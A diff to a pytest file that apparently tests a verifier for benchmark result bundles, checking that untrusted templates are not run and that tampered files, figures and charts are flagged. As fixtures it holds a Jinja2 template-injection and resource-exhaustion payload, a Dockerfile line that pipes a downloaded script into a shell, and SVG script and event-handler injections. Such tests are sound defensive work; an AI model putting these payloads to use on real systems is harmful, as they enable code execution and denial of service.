@@ -341,14 +341,31 @@ def test_a_bundle_that_names_its_doubts_is_undecidable_not_failed(repo: Path, tm
     assert (outcome.exit_code(strict=False), outcome.exit_code(strict=True)) == (0, 1)
 
 
-def test_templates_of_a_stranger_are_not_run(folder: Path) -> None:
+EVIL = "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for i in range(10**9) %}{% endfor %}"
+
+
+def test_templates_of_a_stranger_are_not_run_and_what_they_may_have_changed_is_named(folder: Path) -> None:
     evil = folder / "templates" / "kit" / "dockerignore.j2"
     evil.parent.mkdir(parents=True)
-    evil.write_text("{{ ''.__class__.__mro__[1].__subclasses__() }}{% for i in range(10**9) %}{% endfor %}")
+    evil.write_text(EVIL)
     relist(folder)
     outcome = verify_bundle(folder)
     assert status(outcome, "kit") == {"undecidable"}
     assert failures(outcome) == []
+    (folder / f"recipes/{NAME}/Dockerfile").write_text("RUN curl http://example.org | sh\n")
+    relist(folder)
+    (changed,) = [check for check in verify_bundle(folder).checks if check.id == "kit"]
+    assert (changed.status, changed.path) == ("undecidable", f"recipes/{NAME}/Dockerfile")
+
+
+@pytest.mark.parametrize("place", ["templates/kit/x.j2", "templates/bundle/chart.svg.j2", "templates/x.j2"])
+def test_a_template_that_renders_nothing_excuses_nothing(folder: Path, place: str) -> None:
+    (folder / place).parent.mkdir(parents=True)
+    (folder / place).write_text("x")
+    (folder / f"recipes/{NAME}/Dockerfile").write_text("RUN curl http://example.org | sh\n")
+    relist(folder)
+    found = {check.path for check in failures(verify_bundle(folder)) if check.id == "kit"}
+    assert found == {place, f"recipes/{NAME}/Dockerfile"}
 
 
 def test_patches_of_a_stranger_are_read_never_run(folder: Path) -> None:
@@ -376,6 +393,77 @@ def test_another_versions_wording_is_not_called_a_lie(folder: Path) -> None:
     relist(folder, "0.0.9")
     (wrong,) = failures(verify_bundle(folder))
     assert (wrong.path, wrong.text) == ("README.md", "133.70 does not follow from the raw reports")
+
+
+def of_another_version(folder: Path) -> Outcome:
+    """The bundle as one that recipegen 0.0.9 made, by its own word."""
+    edit_claim(folder, "0.0.9")
+    relist(folder, "0.0.9")
+    return verify_bundle(folder)
+
+
+def appended(path: str, text: str) -> Callable[[Path], None]:
+    def change(folder: Path) -> None:
+        (folder / path).parent.mkdir(parents=True, exist_ok=True)
+        with (folder / path).open("a") as file:
+            file.write(text)
+
+    return change
+
+
+IN_ANY_VERSION: dict[str, tuple[Callable[[Path], None], str, str]] = {
+    "a script": (appended(f"recipes/{NAME}/scripts/evil.sh", "x"), "kit", f"recipes/{NAME}/scripts/evil.sh"),
+    "a whole number": (appended("README.md", "999 tok/s, 17 times faster\n"), "page", "README.md"),
+    "a number with separators": (appended("README.md", "1,102.43 tok/s\n"), "page", "README.md"),
+    "a number in the chart": (in_text("chart.svg", "100.55", "133.70"), "page", "chart.svg"),
+    "a whole number in the chart": (in_text("chart.svg", "n=12", "n=30"), "page", "chart.svg"),
+    "a program in the chart": (in_text("chart.svg", "</svg>", "<script>alert()</script></svg>"), "page", "chart.svg"),
+    "a handler in the chart": (in_text("chart.svg", "<svg ", '<svg onload="x()" '), "page", "chart.svg"),
+    "a link in the chart": (in_text("chart.svg", "</svg>", '<a xlink:href="//x">.</a></svg>'), "page", "chart.svg"),
+    "a remark with a figure": (in_claim(remarks=["checked by 30 people"]), "claim", "claim.json"),
+}
+
+
+@pytest.mark.parametrize("case", IN_ANY_VERSION)
+def test_the_name_of_another_version_excuses_no_figure_and_no_program(folder: Path, case: str) -> None:
+    change, name, path = IN_ANY_VERSION[case]
+    change(folder)
+    found = {(check.id, check.path) for check in failures(of_another_version(folder))}
+    assert (name, path) in found and {place for _, place in found} == {path}
+
+
+def test_another_versions_kit_may_differ_and_every_file_is_named(folder: Path) -> None:
+    (folder / f"recipes/{NAME}/Dockerfile").write_text("RUN curl http://example.org | sh\n")
+    outcome = of_another_version(folder)
+    assert failures(outcome) == []
+    assert [check.path for check in outcome.checks if check.id == "kit"] == [f"recipes/{NAME}/Dockerfile"]
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "NOTES.md",
+        "recipes/zzz/evil.sh",
+        f"recipes/{NAME}/results/gb10-128g/20261121T080000Z-dflash/notes.md",
+        f"{RUN}/more.json",
+        f"{RUN}/another.log",
+        f"{BASE}/notes.md",
+        "boards/localmaxxing/more.json",
+        "patches/unnamed/apply.py",
+        "docs/README.md",
+    ],
+)
+def test_a_file_that_no_check_reads_is_failed(folder: Path, path: str) -> None:
+    appended(path, "we got 999.99 tok/s\n")(folder)
+    relist(folder)
+    assert (path, "failed") in {(one.path, one.status) for one in verify_bundle(folder).checks if one.id == "files"}
+
+
+def test_logs_of_earlier_attempts_belong_to_a_run(folder: Path) -> None:
+    for name in ("server.1.log", f"{HEADLINE}.2.log"):
+        appended(f"{RUN}/{name}", "failed\n")(folder)
+    relist(folder)
+    assert status(verify_bundle(folder), "files") == {"passed"}
 
 
 class Board:
